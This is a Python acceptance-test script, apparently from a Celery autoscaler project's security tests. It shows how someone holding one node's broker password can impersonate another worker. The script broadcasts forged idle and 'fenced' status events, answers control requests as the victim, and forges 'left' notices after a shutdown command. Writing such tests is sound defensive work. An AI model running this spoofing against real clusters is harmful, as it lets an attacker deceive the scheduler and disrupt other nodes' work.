"""What whoever has one node's broker password can say of another node, with stock Celery: that it is idle,
that it is fenced, that its worker has left. `python -m tests.acceptance.attack BROKER NODENAME`, till killed.
"""

from __future__ import annotations

import json
import sys
import threading
import time
import uuid
from typing import Any

from celery import Celery
from kombu import Consumer, Producer, Queue

url, victim = sys.argv[1:]
host = victim.partition("@")[2]
app = Celery("attack", broker=url, set_as_current=False)
gone = threading.Event()
known: dict[str, Any] = {}
"""The victim's own account, which it gives to anybody who asks."""


def idle(**more: Any) -> dict[str, Any]:
    """That account, with nothing to do, and newer than any of its own."""
    return {**known, "running": [], "held": [], "seq": 10**9 + int(time.time() * 100), **more}


def tell() -> None:
    with app.connection() as connection:
        dispatcher = app.events.Dispatcher(connection, hostname=victim)
        dispatcher.pid = known["pid"]  # under his own there would be two, and the host unknown
        while not gone.wait(0.2):
            told = {k: v for k, v in idle().items() if k not in ("hostname", "pid")}
            dispatcher.send("worker-resources", **told)


def obey(body: dict[str, Any], message: Any) -> None:
    if victim not in (body.get("destination") or [victim]):
        return
    if body["method"] == "shutdown":
        gone.set()
        note = {"kind": "left", "hostname": host, "nodename": victim}
        note |= {name: known[name] for name in ("pid", "started")}
        app.send_task("autoscaler_app.note", kwargs=note, queue="autoscale")
        Producer(message.channel).publish(json.dumps(note), routing_key="autoscale.notes", exchange="")
    elif body.get("reply_to"):
        said = {victim: {"ok": idle(fenced=True)}}
        headers = {"ticket": body["ticket"]}
        Producer(message.channel).publish(said, **body["reply_to"], headers=headers, serializer="json")


[answer] = app.control.broadcast("resources", destination=[victim], reply=True, timeout=20, limit=1)
known.update(answer[victim]["ok"])
threading.Thread(target=tell, daemon=True).start()
with app.connection() as connection:
    mailbox = Queue(uuid.uuid4().hex, app.control.mailbox.exchange, auto_delete=True, durable=False)
    with Consumer(connection.channel(), [mailbox], callbacks=[obey], accept=["json"], no_ack=True):
        sys.stdout.write("at it\n")
        sys.stdout.flush()
        while True:
            connection.drain_events()
